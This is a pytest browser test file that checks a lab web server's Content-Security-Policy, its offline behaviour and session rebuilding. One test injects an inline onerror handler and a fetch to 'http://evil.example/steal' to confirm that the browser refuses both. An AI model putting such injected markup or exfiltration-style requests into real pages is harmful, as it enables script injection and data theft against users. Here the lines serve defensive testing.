"""The lab as ``grpo-lab serve`` runs it (``python -m grpo_lab.server``), in real Chromium.

* The Content-Security-Policy is in force and the lab works under it (all three tabs, no violation),
  while an inline event handler or a request to another host is refused by the browser.
* Offline whatever the session's history: a page whose websocket connects after its session expired
  gets a rebuilt session, and the rebuilt page still asks no other host for anything. (With several
  server processes ``grpo-lab serve`` reuses sessions, so every visitor's session is built from its
  websocket; the policy test covers that default.)
"""

from __future__ import annotations

import json
import time
import urllib.request
from urllib.parse import urlsplit

import pytest

from grpo_lab.testing.lab_server import PAGE_TEXT, block_outside, free_port, serve, wait_readout
from grpo_lab.commands.serve import serve_command
from grpo_lab.server import content_security_policy

pytestmark = [pytest.mark.browser, pytest.mark.slow]

#: every CSP violation the page reports, kept on window.__csp
RECORD_VIOLATIONS = """
window.__csp = [];
document.addEventListener('securitypolicyviolation',
  (e) => window.__csp.push(e.effectiveDirective + ' ' + (e.blockedURI || '')), true);
"""

SESSION_LIFETIME_MS = 1500  #: the rebuild test's server forgets a session unused this long ...
CHECK_UNUSED_MS = 500  #: ... checking this often


def lab_command(port: int, *extra: str) -> list[str]:
    """``grpo-lab serve``'s command line plus ``extra`` (later flags win; ``--num-procs 1`` also drops
    ``--reuse-sessions``, which only matters with several processes)."""
    base = serve_command(port=port)
    if "--num-procs" in extra:
        base = [a for a in base if a != "--reuse-sessions"]
    return [*base, *extra]


@pytest.fixture(scope="module")
def served():
    port = free_port()
    with serve(cmd=lab_command(port), port=port) as url:
        yield url


def origin_of(url: str) -> str:
    return "{0.scheme}://{0.netloc}".format(urlsplit(url))


def test_every_response_carries_the_policy_and_health_is_cheap(served):
    policy = content_security_policy(urlsplit(served).netloc)
    assert f"connect-src 'self' blob: ws://{urlsplit(served).netloc} " in policy
    with urllib.request.urlopen(served, timeout=30) as r:
        assert r.headers["Content-Security-Policy"] == policy
        assert r.headers["X-Content-Type-Options"] == "nosniff"
    with urllib.request.urlopen(origin_of(served) + "/health", timeout=30) as r:
        assert json.loads(r.read()) == {"ok": True}
        assert r.headers["Content-Security-Policy"] == policy


def test_lab_works_under_the_policy_which_blocks_handlers_and_other_hosts(page, served):
    origin = origin_of(served)
    outside = block_outside(page, lambda url: url.startswith(origin + "/"))  # a safety net behind the policy
    page.add_init_script(RECORD_VIOLATIONS)
    page.goto(served)
    wait_readout(page)
    for tab, words in (("Advantages", "Advantage explorer"), ("Replay", "Replay a run")):
        page.get_by_text(tab, exact=True).click()
        page.wait_for_function(f"({PAGE_TEXT})().includes({words!r})", timeout=30_000)
    page.wait_for_timeout(500)
    assert page.evaluate("window.__csp") == []  # Panel and Bokeh run within the policy
    assert page.console_errors == []
    # markup that got into the page anyway could neither run a handler nor call another host
    page.evaluate("""() => {
      document.body.insertAdjacentHTML('beforeend', '<img id="probe" src="no-such.png" onerror="window.__ran = 1">');
      fetch('http://evil.example/steal').catch(() => {});
    }""")
    page.wait_for_function("window.__csp.length >= 2", timeout=10_000)
    violations = page.evaluate("window.__csp")
    assert page.evaluate("window.__ran") is None
    assert any(v.startswith("script-src-attr") for v in violations)
    assert any(v.startswith("connect-src") and "evil.example" in v for v in violations)
    assert outside == []  # refused by the policy before any request left the page


def test_a_rebuilt_session_asks_no_other_host(browser, tmp_path):
    """Hold the page's scripts until its session has expired; its websocket then gets a rebuilt session."""
    port = free_port()
    log = tmp_path / "server.log"
    # one process and no session reuse: the page's own session is built by its HTML request, then expires
    cmd = lab_command(port, "--num-procs", "1", "--unused-session-lifetime", str(SESSION_LIFETIME_MS),
                      "--check-unused-sessions", str(CHECK_UNUSED_MS), "--log-level", "debug",
                      "--log-file", str(log))
    with serve(cmd=cmd, port=port) as url:
        context = browser.new_context()
        page = context.new_page()
        origin = origin_of(url)
        outside = block_outside(page, lambda u: u.startswith(origin + "/"))
        hold_s = 3 * (SESSION_LIFETIME_MS + CHECK_UNUSED_MS) / 1000

        def held(route):  # Bokeh's script, hence the websocket, arrives after the session is gone
            time.sleep(hold_s)
            route.continue_()

        page.route("**/static/js/bokeh.min.js*", held)
        requests: list[str] = []
        page.on("request", lambda r: requests.append(r.url))
        try:
            page.goto(url, timeout=120_000)
            wait_readout(page, timeout=120_000)
            page.wait_for_timeout(1000)
            assert "Discarding session" in log.read_text()  # the page's first session did expire
            assert [u for u in requests if not u.startswith(origin + "/")] == []
            assert outside == []
        finally:
            context.close()
